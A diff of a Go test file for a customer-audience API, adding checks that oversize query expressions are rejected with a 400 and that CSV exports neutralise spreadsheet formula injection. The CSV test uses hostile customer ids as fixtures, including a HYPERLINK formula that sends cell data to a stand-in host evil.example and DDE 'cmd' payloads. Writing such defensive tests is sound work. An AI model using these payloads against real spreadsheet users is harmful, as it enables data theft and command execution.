@@ -178,6 +178,27 @@ func TestMalformedExpressionsAnswer400WithThePosition(t *testing.T) {
 	}
 }
 
+func TestOversizeExpressionsAnswer400NamingTheLimit(t *testing.T) {
+	e := start(t, nil, nil)
+	e.apply(t, e.order("x", T.Add(-day(3)), "10.00", "dog"), e.order("y", T.Add(-day(3)), "10.00", "cat"))
+	or := func(n int, name string) string { return strings.TrimSuffix(strings.Repeat(name+" OR ", n), " OR ") }
+	// At the limit, 64 names, the expression is answered.
+	var page api.Members
+	e.get(t, "/v1/members?q="+url.QueryEscape(or(64, "bought:category:dog")), &page)
+	if !slices.Equal(page.Members, []string{"x"}) {
+		t.Errorf("64 names: members %v, want [x]", page.Members)
+	}
+	for _, tc := range []struct{ name, q, limit string }{
+		{"100,000 names in 500 KB", or(100_000, "a"), "4096 bytes"},
+		{"65 names", or(65, "a"), "64 names"},
+	} {
+		status, body, _ := e.do(t, "GET", "/v1/members?q="+url.QueryEscape(tc.q), token, nil)
+		if status != 400 || !strings.Contains(string(body), tc.limit) {
+			t.Errorf("%s: %d %.200s, want 400 naming the limit %s", tc.name, status, body, tc.limit)
+		}
+	}
+}
+
 func TestPagingIsStableUnderConcurrentUpdates(t *testing.T) {
 	e := start(t, nil, nil)
 	// Stable members: customers with a dog order, who keep it. Between pages,
@@ -269,6 +290,86 @@ func TestCSVExportListsTheWholeAudienceWithSegmentAndCLV(t *testing.T) {
 	_, body, h = e.do(t, "GET", "/v1/members?format=csv&limit=10&q=N+OR+NOT+N", token, nil)
 	if lines := strings.Count(string(body), "\n"); lines != 11 || h.Get("X-Next-Cursor") != ids[9] {
 		t.Errorf("CSV page: %d lines, next %q", lines, h.Get("X-Next-Cursor"))
+	}
+}
+
+func TestCSVExportNeutralisesCellsASpreadsheetWouldReadAsFormulas(t *testing.T) {
+	e := start(t, nil, nil)
+	// Customer ids as a hostile client could send them, and the cell a
+	// spreadsheet must read (OWASP, CSV Injection): a single quote before a
+	// cell that begins a formula, also after leading spaces, line breaks or
+	// quotes; a formula after a separator inside a cell stays inside the
+	// quoted cell.
+	cases := []struct{ id, cell string }{
+		{`=HYPERLINK("http://evil.example/?"&A1,"open")`, `'=HYPERLINK("http://evil.example/?"&A1,"open")`},
+		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"\tplain", "'\tplain"},
+		{"  =1+1", "'  =1+1"},
+		{"\n-1+1", "'\n-1+1"},
+		{`"=1+1`, `'"=1+1`},
+		{"'@A1", "''@A1"},
+		{`=1+2";=1+2`, `'=1+2";=1+2`},
+		{"a;=1+1", "a;=1+1"},
+		{"a,=1+1", "a,=1+1"},
+		{"a\t=1+1", "a\t=1+1"},
+		{"cust-1", "cust-1"},
+		{"x@example.com", "x@example.com"},
+	}
+	want := map[string]string{}
+	for _, tc := range cases {
+		e.apply(t, e.order(tc.id, T.Add(-day(3)), "10.00", "dog"))
+		want[tc.id] = tc.cell
+	}
+	check := func(path string) map[string]bool {
+		t.Helper()
+		status, body, _ := e.do(t, "GET", path, token, nil)
+		if status != 200 {
+			t.Fatalf("%s: %d %s", path, status, body)
+		}
+		// However a spreadsheet splits the rows, no cell begins a formula.
+		for _, sep := range []rune{',', ';', '\t'} {
+			r := csv.NewReader(strings.NewReader(string(body)))
+			r.Comma, r.LazyQuotes, r.FieldsPerRecord = sep, true, -1
+			rows, err := r.ReadAll()
+			if err != nil {
+				t.Fatalf("%s split on %q: %v", path, sep, err)
+			}
+			for _, row := range rows {
+				for _, cell := range row {
+					if c := strings.TrimLeft(cell, " \r\n\""); c != "" && strings.ContainsAny(c[:1], "=+-@\t") {
+						t.Errorf("%s split on %q: cell %q begins a formula", path, sep, cell)
+					}
+				}
+			}
+		}
+		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen := map[string]bool{}
+		for _, row := range rows[1:] {
+			seen[row[0]] = true
+		}
+		return seen
+	}
+	inAll := check("/v1/members?format=csv&q=" + url.QueryEscape("bought:category:dog"))
+	inSegments := map[string]bool{}
+	for _, seg := range []string{"important_value", "important_develop", "important_retain", "important_keep", "general_value", "general_develop", "general_retain", "general_keep"} {
+		for cell := range check("/v1/segments/" + seg + "/members?format=csv") {
+			inSegments[cell] = true
+		}
+	}
+	for _, tc := range cases {
+		if !inAll[tc.cell] || !inSegments[tc.cell] {
+			t.Errorf("id %q: no cell %q (audience %v, segments %v)", tc.id, tc.cell, inAll[tc.cell], inSegments[tc.cell])
+		}
+	}
+	if len(inAll) != len(cases) || len(inSegments) != len(cases) {
+		t.Errorf("%d cells in the audience, %d in the segments, want %d", len(inAll), len(inSegments), len(cases))
 	}
 }
 
